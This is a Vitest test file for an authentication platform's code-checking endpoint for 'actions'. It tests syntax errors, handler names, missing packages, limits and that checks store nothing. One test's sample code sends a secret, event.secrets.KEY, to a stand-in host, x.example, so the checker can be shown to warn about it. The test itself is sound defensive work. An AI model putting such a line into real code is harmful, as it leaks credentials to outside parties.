/** `POST /actions/check`: what is wrong with code that is being written, and that nothing comes of asking. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Management, startManagement } from './harness.js';

const GOOD = 'exports.onExecutePostLogin = async (event, api) => {};';

let api: Management;
beforeAll(async () => {
  api = await startManagement();
});
afterAll(() => api.close());

const check = (code: string, more: Readonly<Record<string, unknown>> = {}) =>
  api.post('/actions/check', { trigger_id: 'post-login', code, ...more });

describe('POST /actions/check', () => {
  test('finds nothing in code that is well', async () => {
    expect(await check(GOOD)).toMatchObject({ status: 200, body: { errors: [], warnings: [] } });
  });

  test('names line and column of code that cannot be read', async () => {
    const { status, body } = await check('exports.onExecutePostLogin = async () => {\n  const = 1;\n};');
    expect(status).toBe(200);
    expect(body.errors).toMatchObject([{ id: 'code', line: 2, column: expect.any(Number) }]);
  });

  test('asks for the handler of the trigger that is named', async () => {
    const { body } = await check(GOOD, { trigger_id: 'credentials-exchange' });
    expect(body.errors[0].msg).toContain('onExecuteCredentialsExchange');
  });

  test('tells a finding in its place, and a package that is not here', async () => {
    const code =
      "exports.onExecutePostLogin = async (event) => {\n  await fetch('https://x.example/' + event.secrets.KEY);\n};";
    const named = await check(code, { secret_names: ['KEY'], dependencies: [{ name: 'left-pad', version: '1.0.0' }] });
    expect(named.body.errors).toMatchObject([{ id: 'dependency', msg: expect.stringContaining('left-pad') }]);
    const { body } = await check(code, { secret_names: [] });
    expect(body.warnings.map(({ id }: { id: string }) => id)).not.toEqual(
      named.body.warnings.map(({ id }: { id: string }) => id),
    );
    expect(body.warnings[0]).toMatchObject({ line: 2, severity: expect.any(String), fix: expect.any(String) });
  });

  test('refuses a trigger that is not here, and code beyond the limit', async () => {
    expect((await check(GOOD, { trigger_id: 'send-phone-message' })).status).toBe(400);
    expect((await check(`${GOOD}//${'x'.repeat(102_400)}`)).status).toBe(400);
    expect((await api.post('/actions/check', { trigger_id: 'post-login' })).status).toBe(400);
  });

  test('takes code without a trigger for a module: it needs no handler, and may require no other module', async () => {
    const module = (code: string, more = {}) => api.post('/actions/check', { code, ...more });
    expect((await module("exports.of = () => 'plan';")).body).toEqual({ errors: [], warnings: [] });
    expect((await module('exports.of = () => {\n  const = 1;\n};')).body.errors).toMatchObject([
      { id: 'code', line: 2 },
    ]);
    expect((await module("require('actions:plans');")).body.errors).toMatchObject([{ id: 'module', line: 1 }]);
    const lacks = { dependencies: [{ name: 'left-pad', version: '1.0.0' }] };
    expect((await module('', lacks)).body.errors).toMatchObject([{ id: 'dependency' }]);
  });

  test('stores nothing and writes no line of the log', async () => {
    await check(GOOD);
    const { rows } = await api.database.pool.query(
      'select (select count(*) from actions)::int as actions, (select count(*) from logs)::int as logs',
    );
    expect(rows).toEqual([{ actions: 0, logs: 0 }]);
  });
});
